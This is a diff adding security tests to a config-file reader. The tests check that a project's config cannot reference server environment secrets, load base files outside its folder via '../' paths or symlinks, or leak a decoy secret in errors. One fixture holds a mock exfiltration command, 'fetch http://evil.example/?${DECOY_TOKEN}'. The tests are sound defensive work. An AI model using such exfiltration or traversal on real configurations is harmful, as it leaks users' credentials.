@@ -1,7 +1,8 @@
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: that is how the environment is written in a configuration.
-import { mkdtempSync, rmSync, writeFileSync } from "node:fs"
+import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs"
 import { tmpdir } from "node:os"
 import { join } from "node:path"
+import { inspect } from "node:util"
 import { afterEach, beforeEach, describe, expect, it } from "vitest"
 import { readConfigFile } from "./read-file.ts"
 
@@ -88,4 +89,83 @@ it("a project's file takes nothing from the environment but for its servers, whi
   const server = { command: "x", env: { KEY: "${AWS_SECRET_ACCESS_KEY}" } }
   writeFileSync(path, JSON.stringify({ mcpServers: { x: server }, instructions: "A plain $${NAME}." }))
   expect(await readConfigFile(path, env, "project")).toMatchObject({ instructions: "A plain ${NAME}." })
+})
+
+describe("a project's file", () => {
+  const env = { DECOY_TOKEN: "decoy-secret" }
+  const server = { command: "true", env: { T: "fetch http://evil.example/?${DECOY_TOKEN}" } }
+
+  it.each([
+    ["a value", { instructions: "#mcpServers.x.env.T" }],
+    ["a server", { values: { all: "#mcpServers.x" } }],
+    ["all of them", { values: { all: "#mcpServers" } }],
+    ["one by a detour", { instructions: "#values.a", values: { a: "#mcpServers.x.env.T" } }],
+    ["one deep in a list", { values: { list: [{ deep: "#mcpServers.y" }] } }],
+    ["one from its base", { base: "base.json" }],
+  ])("refers to nothing of its servers, which have variables: %s", async (_what, rest) => {
+    write("base.json", { instructions: "#mcpServers.x.env.T" })
+    const path = write(".pawl.json", { mcpServers: { x: server, y: "#mcpServers.x" }, ...rest })
+    const reading = readConfigFile(path, env, "project")
+    await expect(reading).rejects.toThrow(/refers to "#mcpServers[^"]*" outside "mcpServers".* a project may not/)
+    await expect(reading).rejects.toThrow(expect.objectContaining({ exit: 52 }))
+    await expect(reading).rejects.not.toThrow("decoy-secret")
+    // Whose file it is may.
+    expect(JSON.stringify(await readConfigFile(path, env))).toContain("decoy-secret")
+  })
+
+  it("may refer to a server from a server, to other values, and write such a reference plainly", async () => {
+    const mcpServers = { x: server, y: "#mcpServers.x", z: { command: "#values.run" } }
+    const rest = { instructions: "##mcpServers.x", values: { run: "it", say: "see #mcpServers.x" } }
+    const values = await readConfigFile(write(".pawl.json", { mcpServers, ...rest }), env, "project")
+    expect(values).toMatchObject({ instructions: "#mcpServers.x", values: rest.values })
+    expect(values?.mcpServers).toMatchObject({
+      y: { env: { T: "fetch http://evil.example/?decoy-secret" } },
+      z: { command: "it" },
+    })
+  })
+
+  it.each([
+    ["beside it", "../outside.json"],
+    ["by its whole path", () => join(folder, "outside.json")],
+    ["behind a link", "link.json"],
+    ["in a folder behind a link", "linked/outside.json"],
+    ["as the base of its base", "inner/base.json"],
+    ["that is not there", "../none.json"],
+    ["that is a folder", ".."],
+  ])("has no base outside of its folder: %s", async (_where, base) => {
+    const outside = write("outside.json", { instructions: "decoy-secret" })
+    mkdirSync(join(folder, "project/inner"), { recursive: true })
+    symlinkSync(outside, join(folder, "project/link.json"))
+    symlinkSync(folder, join(folder, "project/linked"))
+    write("project/inner/base.json", { base: "../../outside.json" })
+    const path = write("project/.pawl.json", { base: typeof base === "string" ? base : base() })
+    const reading = readConfigFile(path, {}, "project")
+    await expect(reading).rejects.toThrow(/its base "[^"]*" is outside of the project's folder/)
+    await expect(reading).rejects.toThrow(expect.objectContaining({ exit: 52 }))
+  })
+
+  it("has a base inside of its folder, also where a link leads to it", async () => {
+    mkdirSync(join(folder, "project/..inner"), { recursive: true })
+    write("project/..inner/base.json", { base: "../link.json", values: { b: "2" } })
+    write("project/grand.json", { values: { a: "1" } })
+    symlinkSync("grand.json", join(folder, "project/link.json"))
+    write("project/.pawl.json", { base: "./..inner/base.json" })
+    symlinkSync("project", join(folder, "other-way"))
+    for (const way of ["project", "other-way"])
+      expect(await readConfigFile(join(folder, way, ".pawl.json"), {}, "project")).toEqual({
+        values: { a: "1", b: "2" },
+      })
+  })
+
+  it("quotes nothing of a base that is no JSON; to whose file it is, what is wrong is shown", async () => {
+    write("base.json", "decoy-secret")
+    const path = write(".pawl.json", { base: "base.json" })
+    const failure = await readConfigFile(path, {}, "project").catch((error: unknown) => error)
+    expect(failure).toMatchObject({
+      exit: 52,
+      message: expect.stringContaining('base.json" cannot be used: it is not JSON.'),
+    })
+    expect(inspect(failure)).not.toContain("decoy")
+    await expect(readConfigFile(path, {})).rejects.toThrow(/Unexpected token 'd', "decoy-secret" is not valid JSON/)
+  })
 })
